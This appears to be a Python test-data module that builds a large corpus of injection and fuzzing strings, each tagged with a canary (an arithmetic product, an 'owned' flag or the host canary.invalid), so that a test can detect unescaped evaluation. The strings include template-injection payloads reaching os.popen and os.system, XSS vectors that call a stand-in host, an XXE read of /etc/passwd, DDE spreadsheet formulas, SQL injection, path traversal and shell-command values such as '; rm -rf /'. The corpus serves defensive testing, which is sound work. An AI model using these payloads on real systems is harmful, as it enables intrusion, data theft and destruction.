"""Strings that attack whatever might take text for code, each with a canary that tells if it was taken so.

An expression such as ``700003*900007`` stands wherever a template engine or a script would evaluate it: its product
must appear nowhere. A script that runs sets ``owned`` or asks ``canary.invalid``. The strings are the same each time.
"""

# ruff: noqa: E501

from __future__ import annotations

import re
import unicodedata
from collections.abc import Iterator
from functools import cache
from itertools import chain

HOST = "canary.invalid"
_FIRST, _OTHER = 700001, 900007
_EXPRESSION = re.compile("(?<![A-Za-z0-9])E(?![A-Za-z0-9])")
_DIGITS = re.compile(r"\d{12,}")

# E is the expression, OWN a script that tells of itself, HOST the host that must never be asked.
TEMPLATES = (
    *("{{E}}", "{{ E }}", "{{E|safe}}", "{%print(E)%}", "{% set x=E %}{{x}}", "{# E #}{{E}}", "{%raw%}{{E}}"),
    *("{%endraw%}{{E}}", "{{'%s'|format(E)}}", "{{{E}}}", "{{&E}}", "{{=<% %>=}}<%E%>", "{{>E}}", "{{#E}}{{/E}}"),
    *("<%= E %>", "<% E %>", "<%== E %>", "<?= E ?>", "<?php echo E; ?>", "${E}", "`${E}`", "${{E}}", "#{E}", "*{E}"),
    *("@{E}", "@(E)", "[[${E}]]", "[(${E})]", "[[E]]", "$(E)", "$((E))", "$[E]", "%{E}", "~{E}", "^{E}", "!{E}"),
    *("{{constructor.constructor('return E')()}}", "{{[].pop.constructor('OWN')()}}", "{{$on.constructor('OWN')()}}"),
    *("{{''.__class__.__mro__[1].__subclasses__()[E]}}", "{{config.__class__.__init__.__globals__[E]}}"),
    *("{{cycler.__init__.__globals__.os.popen('echo E').read()}}", "{% for x in range(E) %}", "{%include 'E'%}"),
    *("{% import os %}{{os.system('E')}}", "{%if E%}", "50 {% of E", "E {{", "E }}", "E {%", "E %}", "{# E", "E #}"),
    *("<#assign x=E>${x}", "<@E/>", "#set($x=E)$x", "{php}echo E;{/php}", "{E}", "{{'E'|eval}}", "{{=E}}"),
)
SCRIPTS = (
    *("<script>OWN</script>", "<ScRiPt>OWN</sCrIpT >", "<script\n>OWN</script\t>", "<script src=//HOST/E></script>"),
    *("<script type=module>OWN</script>", "<script>import('https://HOST/E')</script>", "<script/x>OWN</script/x>"),
    *("<<script>OWN//<</script>", "<scr<script>ipt>OWN</scr</script>ipt>", "<script>OWN", "<img src=x onerror=OWN>"),
    *('<img src="x" onerror="OWN">', "<img src='x' onerror='OWN'>", "<img/src/onerror=OWN>", "<img src=https://HOST/E>"),
    *("<img srcset=https://HOST/E>", "<image href=https://HOST/E onerror=OWN>", "<svg onload=OWN>", "<svg/onload=OWN>"),
    *("<svg><script>OWN</script></svg>", "<svg><style><img src=x onerror=OWN></style>", "<svg><use href=https://HOST/E>"),
    *("<svg><a href=javascript:OWN><text y=9>E</text></a>", "<svg><animate onbegin=OWN attributeName=x dur=1s>"),
    *("<math href=javascript:OWN>E</math>", "<math><mtext><table><mglyph><style><img src onerror=OWN>", "<body onload=OWN>"),
    *("<input autofocus onfocus=OWN>", "<details open ontoggle=OWN>", "<select autofocus onfocus=OWN>", "<marquee onstart=OWN>"),
    *("<iframe srcdoc='<script>parent.OWN</script>'>", "<iframe src=javascript:parent.OWN>", "<iframe src=https://HOST/E>"),
    *("<object data=https://HOST/E>", "<embed src=https://HOST/E>", "<form action=https://HOST/E><button autofocus>E"),
    *("<base href=https://HOST/E/>", "<link rel=stylesheet href=https://HOST/E>", "<link rel=prefetch href=https://HOST/E>"),
    *("<meta http-equiv=refresh content='0;url=https://HOST/E'>", "<style>*{background:url(https://HOST/E)}</style>"),
    *("<style>@import 'https://HOST/E'</style>", "<p style=background:url(https://HOST/E)>E", "<p style='width:expression(OWN)'>"),
    *("<video><source onerror=OWN></video>", "<video poster=https://HOST/E src=x>", "<audio src=https://HOST/E onerror=OWN>"),
    *("<a href=javascript:OWN autofocus onfocus=OWN>E</a>", "<a ping=https://HOST/E href=#E>E</a>", "<table background=https://HOST/E>"),
    *("<template><img src=x onerror=OWN></template>", "<plaintext>E", "<xmp>E", "<listing>&lt;img src=x onerror=OWN&gt;"),
    *("<noscript><p title='</noscript><img src=x onerror=OWN>'>", "<textarea autofocus onfocus=OWN>", "<div id=mapper>E"),
    *("<b id=mapper-payload>{}</b>", "<form id=mapper name=body><input name=firstChild>", "<a id=L name=map>E", "<img name=getElementById>"),
    *("<x onclick=OWN tabindex=1 autofocus onfocus=OWN>", "<!--><img src=x onerror=OWN>-->", "<![CDATA[<img src=x onerror=OWN>]]>"),
    *("<?xml-stylesheet href='https://HOST/E'?>", "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>", "<!ENTITY e 'E'>"),
    *(" onclick=OWN ", " onmouseover=OWN x=", " style=x onload=OWN", "javascript:OWN", "JaVaScRiPt:OWN", "java\tscript:OWN"),
    *("java\nscript:OWN", "\x01javascript:OWN", "javascript://%0aOWN", "javascript&colon;OWN", "vbscript:MsgBox(E)"),
    *("data:text/html,<script>OWN</script>", "data:text/html;base64,PHNjcmlwdD5vd25lZD0xPC9zY3JpcHQ+#E", "data:image/svg+xml,<svg onload=OWN>"),
    *("blob:null/E", "file:///etc/passwd#E", "https://HOST/E", "//HOST/E", "\\\\HOST\\E", "http:HOST/E", "https://a@HOST:80/E?E#E"),
    *("url(https://HOST/E)", "url(javascript:OWN)", "@import url(https://HOST/E);", "expression(OWN)", "behavior:url(https://HOST/E)"),
    *("-moz-binding:url(https://HOST/E)", "red;background:url(https://HOST/E)", "}*{background:url(https://HOST/E)}", "\\65xpression(OWN)"),
    *("OWN", "(OWN)", ";OWN;", "+OWN+", "-OWN-", "*/OWN/*", "//\nOWN\n//", "\\\n;OWN//", "}});OWN;(()=>({", "]);OWN;([", "\u2028OWN\u2029"),
)  # fmt: skip
# What would end the place where a text stands, so that what follows is read as something else.
CLOSERS = (
    *('"', "'", "`", '">', "'>", '\\"', "\\'", "\\", "-->", "--!>", "</script>", "</SCRIPT >", "</style>", "</textarea>"),
    *("</title>", "</noscript>", "</template>", "]]>", "<!--", "<!--<script>", "*/", "}}", "%}", "\u2028", "\r\n", "\x00"),
)  # fmt: skip
_CLOSED = (
    *("{{E}}", "${E}", "<%=E%>", "<script>OWN</script>", "<img src=x onerror=OWN>", "<svg onload=OWN>", ";OWN;//"),
    *(" onfocus=OWN autofocus ", "<iframe src=https://HOST/E>", "<link rel=prefetch href=https://HOST/E>", "{%print(E)%}"),
    *("<style>@import 'https://HOST/E'</style>", "<base href=https://HOST/E/>", "+OWN+", "<b>E</b>", "javascript:OWN"),
)  # fmt: skip
_SPOKEN = (
    *("{{E}}", "${E}", "<script>OWN</script>", "<img src=x onerror=OWN>", "</script><script>OWN</script>", '";OWN;"'),
    *("javascript:OWN", "<svg/onload=OWN>", "--><img src=x onerror=OWN>", "<b>E</b>", "&E;", "'+OWN+'", "`${OWN}`"),
)  # fmt: skip
FORMULAS = (
    *(
        f"{before}{sign}{rest}"
        for before in ("", "'", "''", " ", "\t", "\n", "\u00a0", '"')
        for sign in ("=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠", "|", "%")
        for rest in ("E", 'HYPERLINK("https://HOST/E")')
    ),
    *("=cmd|' /C calc'!A0 E", "=DDE(\"cmd\",\"/C calc\",\"E\")", "=2+5+cmd|' /C calc'!A0", '=IMPORTXML("https://HOST/E","//a")'),
    *('=WEBSERVICE("https://HOST/E")', "=1+1", "-72.5", "+33 1 23 45 67 89", "-", "=", "@", "+", "@SUM(1+1)*cmd|' /C calc'!A0"),
    *("-1e5", "- dashed -", "--E", "=E", "+E", "-E", "@E", "=\"a\"", "=TRUE", "=A1:B2", "=_xlfn.E", "'", "''", "'=", "''=E"),
)  # fmt: skip
TABLES = (
    *('"', '""', '"""', 'a"b', '"a', 'a"', '"a","b"', "a,b", ",", ",,,", ";", ";;", "a;b;c", "\t", "a\tb", "a\nb", "a\r\nb", "a\rb"),
    *("\\N", "\\,", '\\"', "sep=;", "#comment", "# a", "null", "NULL", "None", "NA", "N/A", "#N/A", "nan", "NaN", "-", "?", "true", "FALSE"),
    *("a, \"b\" ; 'c'\t|d|", "|", "||", "a|b", "\x1a", "\x0b", "\x0c", "\x1c", "\x1d", "\x1e", "\x1f", "\x85", "\ufeffa", "a\ufeff"),
)  # fmt: skip
NUMBERS = (
    *(
        "1e309",
        "-1e309",
        "1e-400",
        "Infinity",
        "-Infinity",
        "-0",
        "0x1F",
        "0b11",
        "0o17",
        "007",
        "1_000",
        "1,000",
        "1.000,5",
    ),
    *(
        "9007199254740993",
        "1" * 400,
        "٣",
        "１２",
        "½",
        "Ⅷ",
        "1e5",
        ".5",
        "5.",
        "+5",
        "2024-07",
        "03/04/2024",
        "45123",
        "1/2",
        "12:30",
    ),
)
NAMES = (
    *("__proto__", "constructor", "prototype", "toString", "valueOf", "hasOwnProperty", "toJSON", "then", "length", "__defineGetter__"),
    *("__class__", "__init__", "__dict__", "self", "this", "undefined", "null ", "name", "id", "nodeName", "innerHTML", "default"),
    *("geometry", "index", "level_0", "crs", "text", "title ", "value", "payload", "start", "mapper", "map_1", "L", "window", "document"),
)  # fmt: skip
PATHS = (
    *("../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd", "C:\\users\\new\\table", "\\\\?\\C:\\x", "file:///E", "~/.ssh/id_rsa"),
    *("CON", "con.txt", "NUL", "aux", "COM1", "LPT1.csv", "PRN", "a:stream", "...", ".", "..", "a/../b", "a//b", "%2e%2e%2f", "$HOME", "`id`"),
    *("$(id)", "; rm -rf /", "| cat", "&& id", "-rf", "--help", "a\u2215b", "x" * 255, "*", "?", "[a-z]", "a\\", "%PATH%"),
)  # fmt: skip
FORMATTED = (
    *("%s%s%s%n", "%(x)s", "%d %x %c", "%", "%%", "%7b%7bE%7d%7d", "{0}", "{x}", "{}", "{0.__class__}", "{0!r}", "{:>99999999}", "{{{{E}}}}"),
    *("$x", "${x}", "$$", "$1 $& $` $'", "\\1", "\\g<0>", "\\u{1F4A9}", "\\x41", "\\101", "\\n\\t\\0", "\\", "\\\\", "a\\", "{n} {other}"),
    *("'; DROP TABLE events; --", "' OR 1=1 --", "1); DELETE FROM x; --", "\" OR \"\"=\"", "*)(uid=*))(|(uid=*", "' || 'E", "$where: E"),
    *("(a+)+$", "^.*$", "[", "(?P<x>", "\\p{L}", ".*" * 30, "a{99999}"),
)  # fmt: skip
JSON_BREAKERS = (
    *('"}', '"]}', '{"a":1}', '[1,2', '\\"', '"\\u0000"', "\\ud800", "\\u003cb\\u003e", "\\x3cb\\x3e", "/*E*/", "//E", "NaN}", '","x":"'),
    *("&lt;b&gt;", "&lt", "&amp;amp;", "&#60;b&#62;", "&#x3c;b", "&#x3Cb&#x3E", "&nbsp;", "&Tab;", "&NewLine;", "&zwj;", "&#0;", "&#128;"),
    *("&copy", "&notit;", "&bogus;", "&", "&&", "&;", "a&b=c", "<", ">", "<>", "< b >", "a<b", "a>b", "</", "<!", "<?", "<a", "<a b='"),
)  # fmt: skip
_MARKS = "\u0301\u0302\u0303\u0316\u0323\u0334\u0489\u20dd\u20e3"
SCRIPTS_OF_THE_WORLD = (
    *(f"a{mark}b" for mark in "\u200b\u200c\u200d\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u2060\u2061\u061c"),
    *(f"a{mark}b" for mark in "\u2028\u2029\u0085\u00a0\u1680\u180e\u2003\u202f\u205f\u3000\ufeff\ufff9\ufffb\ufffc\ufffd\ufffe\uffff\u00ad"),
    *(f"a{chr(code)}b" for code in (*range(1, 32), *range(127, 160))),
    *("\u202e{{E}}\u202c", "\u202egpj.exe", "\u2067<b>E</b>\u2069", "abc\u202e</script>\u202c", "a\u200b{\u200b{E}}"),
    *("مرحبا {{E}} בעולם", "שלום <b>E</b>", "العربية \u202dE\u202c", "太子港 ${E}", "ภาษาไทย", "हिन्दी", "한국어", "Ελληνικά", "Кириллица"),
    *("Léogâne", "Le\u0301oga\u0302ne", "ﬁ ﬀ Ǆ", "ſ ß ẞ", "İ i ı I", "Å Å", "ΩΩ", "가 가", "𝓪𝔟𝖈", "Ａ＜ｂ＞", "＜script＞OWN＜/script＞"),
    *("🕊", "👩‍👩‍👧‍👦", "🏴‍☠️", "🇭🇹", "👍🏽", "a\U000e0041b", "a\ufe0fb", "a\U000e0100b", "\U0010ffff", "\U0001f4a9" * 40, "a\U000f0000b"),
    *("e" + _MARKS * count for count in (1, 8, 60)), "z" + "\u0335" * 500, "\u0301E", "\u0e49" * 40, "\u0f77" * 30, "ﷺ" * 60, "\u1dfb" * 99,
    *("x" * 5000, "word " * 3000, "{{E}}" * 500, "<b>" * 900, "\u202e" * 300, "W" * 79, "i" * 81, "É" * 400, "a\n" * 400, "(" * 3000, "[" * 3000),
)  # fmt: skip
# What no file in UTF-8 can hold, or no table: they are refused where they stand.
UNHOLDABLE = (
    "\x00",
    "a\x00b{{E}}",
    "\ud800",
    "a\udfffb${E}",
    "\udc00\ud800",
    "\ud83d {{E}}",
    "<\x00script>OWN</script>",
)


def product(number: int) -> str:
    """What the expression of the string of that number would come to."""
    return str((_FIRST + 2 * number) * _OTHER)


def _filled(vector: str, number: int) -> str:
    expression = f"{_FIRST + 2 * number}*{_OTHER}"
    return _EXPRESSION.sub(expression, vector.replace("OWN", "owned=E").replace("HOST", HOST))


def _spoken(vector: str) -> Iterator[str]:
    """The vector in the spellings that some decoder would turn back."""
    special = "<>\"'`&{}$/"
    yield "".join(f"\\x{ord(char):02x}" if char in special else char for char in vector)
    yield "".join(f"\\u{ord(char):04x}" if char in special else char for char in vector)
    yield "".join(f"\\u{{{ord(char):x}}}" if char in special else char for char in vector)
    yield "".join(f"&#{ord(char)};" if char in special else char for char in vector)
    yield "".join(f"&#x{ord(char):x}" if char in special else char for char in vector)
    yield "".join(f"%{ord(char):02X}" if char in special else char for char in vector)
    yield "".join(f"%25{ord(char):02X}" if char in special else char for char in vector)
    yield "".join(f"\\{ord(char):o}" if char in special else char for char in vector)
    yield "".join(chr(ord(char) + 0xFEE0) if char in "<>\"'&/" else char for char in vector)
    yield vector.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")
    yield vector.replace("<", "&lt").replace(">", "&gt").replace("{", "&lbrace;").replace("$", "&dollar;")
    yield "\u200b".join(vector)


def _vectors() -> Iterator[str]:
    yield from chain(TEMPLATES, SCRIPTS)
    yield from (closer + vector for closer in CLOSERS for vector in _CLOSED)
    yield from (f"text {vector} text" for vector in (*TEMPLATES, *SCRIPTS))
    yield from (f"{vector}\"'`-->" for vector in (*TEMPLATES, *SCRIPTS))
    yield from chain.from_iterable(map(_spoken, (*_SPOKEN, *SCRIPTS[:40], *TEMPLATES[:20])))
    yield from chain(
        FORMULAS, TABLES, NUMBERS, NAMES, PATHS, FORMATTED, JSON_BREAKERS, SCRIPTS_OF_THE_WORLD, UNHOLDABLE
    )


@cache
def strings() -> tuple[str, ...]:
    """All of them, each once; where one has an expression, it is its own."""
    return tuple(dict.fromkeys(_filled(vector, number) for number, vector in enumerate(_vectors())))


@cache
def holdable() -> tuple[str, ...]:
    """Those that a cell of a table can hold and that mean something: without NUL and halves of characters."""
    return tuple(one for one in strings() if "\x00" not in one and not any(map(_is_half, one)) and one.strip())


def evaluated(data: str) -> list[str]:
    """What in a text is the product of one of the expressions, which nobody should have reckoned."""
    first, last = product(0), product(len(strings()) + 99)
    runs = _DIGITS.findall(data)
    found = (run[at : at + 12] for run in runs for at in range(len(run) - 11))
    return [one for one in found if first <= one <= last and int(one) % _OTHER == 0]


def _is_half(char: str) -> bool:
    return unicodedata.category(char) == "Cs"
